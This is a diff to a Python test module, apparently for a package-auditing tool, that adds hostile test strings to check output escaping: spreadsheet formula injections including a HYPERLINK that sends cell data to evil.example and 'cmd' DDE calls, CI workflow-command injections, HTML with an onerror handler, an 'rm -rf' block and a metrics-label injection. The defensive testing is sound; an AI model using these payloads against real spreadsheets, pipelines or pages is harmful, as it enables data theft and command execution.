@@ -3,10 +3,14 @@
 from __future__ import annotations
 
 from dataclasses import replace
+from functools import cache
 
 from auditor.model import (
     Evidence,
     Finding,
+    Pin,
+    PinnedFile,
+    PinState,
     Reason,
     Rejection,
     RejectionCode,
@@ -40,6 +44,25 @@ NASTY = {
     "line-separator": "a\u2028b\u2029c",
     "surrogate": "caf\udce9.whl",
     "url": "javascript:alert(1)",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
+    "formula-plus": "+1+cmd|' /C calc'!A0",
+    "formula-minus": "-2+3",
+    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula-tab": "\t=1+1",
+    "formula-return": "\r=1+1",
+    "formula-wide": "＝1+1",
+    "workflow-command": "::error file=/etc/passwd,line=1::injected",
+    "workflow-legacy": "##[error]injected",
+    "workflow-percent": "50%0A::add-mask::secret%0D",
+    "mark-link": "[click](http://evil.example/) ![i](http://evil.example/i.png) <http://a.example>",
+    "mark-mention": "@everyone see #1 and org/repo#2, GH-3, www.evil.example",
+    "mark-block": "# title\n\n> quote\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n",
+    "mark-fence": "````````sh\nrm -rf\n````````",
+    "mark-emphasis": "**bold** _it_ ~~no~~ `code` $math$ :tada: a\\",
+    "mark-html": "<details open><summary>x</summary><img src=x onerror=alert(1)>",
+    "mark-comment": "--> </details> <!--",
+    "cdata": "]]><evil/>",
+    "label": 'x"} 1\nevil_metric{a="b',
     "entity": "&lt;b&gt;&#x202e;",
     "long": "x" * 50_000,
     "wide": "日本語" * 30,
@@ -47,6 +70,7 @@ NASTY = {
 }
 
 
+@cache
 def hostile_run(text: str) -> Run:
     """The sample world with one text in every place that a server, file or person can fill."""
     run = world()
@@ -69,6 +93,7 @@ def hostile_run(text: str) -> Run:
             upstream=text,
             group=text,
             settings={"cache_path": text},
+            declared_at=f"{text}:7",
         ),
         vantage=text,
         detail=text,
@@ -84,6 +109,20 @@ def hostile_run(text: str) -> Run:
         },
         reasons=(Reason(code=text, text=text, expected=text, observed=text, evidence=(text,)),),
         remedies=(Remedy(command=text, effect=text, caution=text),),
+        pins=(
+            Pin(
+                where=text,
+                state=PinState.FORCED,
+                version=text,
+                specifier=text,
+                files=(PinnedFile(filename=text, url=text, hashes={text: text}),),
+                marker=text,
+                how=text,
+                evidence=(text,),
+            ),
+        ),
+        proxy=text,
+        notes=(text,),
         evidence=(
             Evidence(
                 id=text,
@@ -102,8 +141,9 @@ def hostile_run(text: str) -> Run:
     return replace(
         run,
         findings=(finding,),
-        verdicts=(verdict, second),
-        summary=replace(run.summary, sentence=text, notes=(text,)),
+        verdicts=(verdict, replace(second, selections=second.selections[:8])),
+        incident=replace(run.incident, id=text, broken=("1.2.3",)),
+        summary=replace(run.summary, sentence=text, whose_text=text, notes=(text,)),
         deletion=replace(run.deletion, sentence=text, locations=(text,)),
         requests=(request,),
         tool_versions={text: text},
